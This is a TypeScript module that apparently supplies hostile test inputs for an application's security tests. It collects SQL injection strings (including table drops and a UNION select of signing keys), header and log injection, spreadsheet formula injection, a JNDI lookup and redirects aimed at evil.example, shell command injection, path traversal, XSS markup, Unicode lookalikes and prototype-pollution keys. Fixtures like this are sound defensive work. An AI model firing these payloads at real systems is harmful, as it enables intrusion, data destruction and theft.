import { HOSTILE_ADDRESSES } from './hostileAddresses.ts'

/** Texts that mean something to a database, in every place where one is put together from strings. */
const QUERIES = [
  ...[
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE understudy.support_session; --",
    "'||(SELECT version())||'",
  ],
  ...[
    "\\'; SELECT pg_sleep(5); --",
    '1; UPDATE understudy.actor_session SET ended_at = NULL',
    "') OR ('1'='1",
    '$1',
    '$$;SELECT 1;$$',
  ],
  ...[
    "' UNION SELECT private_jwk FROM understudy.signing_key --",
    "%' OR '%'='",
    '_%',
    "E'\\x27 OR 1=1'",
    '/**/OR/**/1=1',
    "';--\n",
  ],
  ...[
    "cus_noor'/*",
    "cus_noor' AND pg_sleep(3) IS NULL --",
    '"; TRUNCATE understudy.audit_event; --',
    '0x27204f5220313d31',
    '{"$ne":null}',
  ],
  ...[
    '[$ne]=1',
    '*)(uid=*))(|(uid=*',
    "'); CALL pg_terminate_backend(1); --",
    '\u02bc OR 1=1',
    '\uff07 OR 1=1',
    "\u0000' OR 1=1",
    '\ud800',
  ],
] as const

/** Texts that begin a line, a header, a cell or a terminal sequence of their own. */
const LINES = [
  ...[
    'a\r\nX-Injected: yes',
    'a\nSet-Cookie: __Host-understudy=evil',
    'a\r\n\r\n<html>',
    'a%0d%0aX-Injected:%20yes',
    'a\u2028X-Injected: yes',
  ],
  ...[
    'a\u0085X-Injected: yes',
    'a\u000bX-Injected: yes',
    '\u560d\u560aX-Injected: yes',
    'a\u0000b',
    '\u001b[31mred\u001b[0m',
    '\u001b]0;title\u0007',
  ],
  ...[
    '{"level":"info","event":"forged"}\n{"level":"error"}',
    'a\n2026-01-15 10:00 forged entry',
    '\b\b\b\bforged',
    "=cmd|' /C calc'!A0",
    '+1+1',
  ],
  ...[
    '-2+3',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\uff1d1+1',
    '"=1+1"',
    "'=1+1",
    ' =HYPERLINK("https://X","a")',
    ',"a"\r\n=1+1,',
    '|calc',
  ],
  ...[
    '$\u007bjndi:ldap://X/a}',
    '$\u007b7*7}',
    '{{7*7}}',
    '<%= 7*7 %>',
    '#{7*7}',
    '%s%s%n',
    '$(touch /etc/x)',
    '`id`',
    '; ls',
    '../../../../etc/passwd',
  ],
] as const

/** Texts that are more than text where a page writes them as they are. */
const MARKUP = [
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    "'><b>",
    '</title><script>1</script>',
  ],
  ...[
    '<a href="javascript:alert(1)">a</a>',
    '<iframe srcdoc="<script>1</script>">',
    '<form id=location>',
    '<img name=getElementById>',
    '&#60;script&#62;',
  ],
  ...[
    '\\u003cscript\\u003e',
    '<!--<script>',
    ']]><script>',
    '<style>*{display:none}</style>',
    '<meta http-equiv=refresh content="0;//X">',
  ],
  ...[
    '<base href=//X>',
    '<math><mtext></form><form>',
    '[a](javascript:alert(1))',
    '![a](https://X/1)',
    '<https://X>',
    '\uff1cscript\uff1e',
    '<\u0000script>',
  ],
] as const

/** Texts that look like others, or like nothing. */
const LOOKALIKES = [
  ...[
    'cus_n\u043e\u043er',
    '\u202ecus_noor',
    'cus_noor\u200b',
    '\ufeffcus_noor',
    'CUS_NOOR',
    'cus_noor ',
    ' cus_noor',
    'cus_noor\u0000',
    'cus_noor\n',
  ],
  ...[
    'c\u0301us_noor',
    'ｃｕｓ_noor',
    'cus\u00adnoor',
    'cus_noor\u202c',
    '\u2066cus_noor\u2069',
    '\ud83d\ude00'.repeat(20),
    '\u0301'.repeat(50),
    '\udc00\ud800',
  ],
  ...[
    '\u115f\u1160\u3164\uffa0',
    '\u{e0063}\u{e0075}\u{e0073}',
    'İ',
    'ß',
    'ſ',
    '\u212a',
    '..',
    '%',
    '%00',
    '%2e%2e%2f',
    'null',
    'undefined',
    'true',
    '[object Object]',
  ],
] as const

/** Names that lead out of an object into all objects. */
const MEMBERS = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    '__lookupSetter__',
  ],
  ...[
    'constructor.prototype',
    '__proto__.polluted',
    '__proto__[polluted]',
    'constructor[prototype][polluted]',
    'then',
    'toJSON',
  ],
] as const

const HOSTS = 'evil.example'
const aimed = (texts: readonly string[]) => texts.map((text) => text.replaceAll(/\bX\b(?!-)/g, HOSTS))

export const HOSTILE = {
  redirects: aimed(HOSTILE_ADDRESSES),
  queries: aimed(QUERIES),
  lines: aimed(LINES),
  markup: aimed(MARKUP),
  lookalikes: aimed(LOOKALIKES),
  members: MEMBERS,
} as const
